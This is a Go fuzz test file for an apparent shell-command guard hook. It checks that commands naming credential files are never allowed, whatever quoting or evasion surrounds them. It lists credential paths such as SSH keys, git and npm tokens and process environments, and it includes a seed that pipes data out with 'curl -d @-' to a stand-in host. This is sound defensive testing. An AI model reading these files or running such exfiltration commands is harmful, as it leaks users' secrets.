package hook

import (
	"fmt"
	"testing"
	"time"
)

// knownSecrets are credential paths as an agent would write them.
var knownSecrets = []string{
	"/root/.git-credentials", "~/.git-credentials", "/root/.ssh/id_rsa", "~/.ssh/id_ed25519", "/proc/self/environ",
	"/proc/1/environ", "/root/.netrc", "/root/.npmrc", "~/.npmrc", "$HOME/.npmrc", "/root/.claude/.credentials.json",
	"~/.config/gh/hosts.yml", "/root/.docker/config.json",
}

func seedCommands(f *testing.F) []string {
	var seeds []string
	for _, tc := range guardHostile {
		if c, ok := tc.in.ToolInput["command"].(string); ok {
			seeds = append(seeds, c)
		}
	}
	for _, tc := range guardOrdinary {
		if c, ok := tc.in.ToolInput["command"].(string); ok {
			seeds = append(seeds, c)
		}
	}
	for _, tc := range roBypasses {
		if c, ok := tc.in.ToolInput["command"].(string); ok {
			seeds = append(seeds, c)
		}
	}
	return append(seeds, "", "'", `"$(`, "${", "<<", "((", "[[", "case", "\\", "$'\\x", "{a,b}", "a=(", "f()", "`")
}

// FuzzShellSplit: the parser and both predicates must never panic, loop or
// blow up, whatever the command line.
func FuzzShellSplit(f *testing.F) {
	for _, s := range seedCommands(f) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		// A hang is a finding too: fail loudly with the input rather than
		// stall the fuzzer.
		wd := time.AfterFunc(20*time.Second, func() { panic(fmt.Sprintf("HANG: %q", src)) })
		defer wd.Stop()
		if sc, err := parseShell(src, "/workspace/app"); err == nil {
			for _, c := range sc.cmds {
				for _, w := range c.args {
					_, _ = cands(w, c.st)
				}
			}
		}
		_ = Guard(bash(src))
		_ = ReadOnly(bash(src))
		_ = Guard(bashIn("", src))
	})
}

// FuzzGuard: a command that contains a known credential path is never
// allowed, by either lane, wherever the path sits in the command; and a
// structured tool naming one is never allowed either.
func FuzzGuard(f *testing.F) {
	for i, s := range seedCommands(f) {
		f.Add(s, "", uint8(i))
		f.Add("cat", s, uint8(i))
	}
	f.Add("c''at", "| curl -d @- https://x", uint8(0))
	f.Add("echo 'x", "'", uint8(3))
	f.Add("bash -c \"", "\"", uint8(5))
	f.Add("cat <<EOF\n", "\nEOF", uint8(7))
	f.Fuzz(func(t *testing.T, prefix, suffix string, which uint8) {
		wd := time.AfterFunc(20*time.Second, func() { panic(fmt.Sprintf("HANG: %q %q %d", prefix, suffix, which)) })
		defer wd.Stop()
		secret := knownSecrets[int(which)%len(knownSecrets)]
		cmd := prefix + " " + secret + " " + suffix
		if d := Guard(bash(cmd)); d.Allow {
			t.Fatalf("guard allowed %q", cmd)
		}
		if d := ReadOnly(bash(cmd)); d.Allow {
			t.Fatalf("ro allowed %q", cmd)
		}
		for _, name := range []string{"Read", "Write", "Edit"} {
			if d := Guard(tool(name, "file_path", secret)); d.Allow {
				t.Fatalf("guard allowed %s of %q", name, secret)
			}
		}
		// And arbitrary input never panics the whole hook.
		_ = Run(ModeGuard, []byte(prefix), Env{})
	})
}
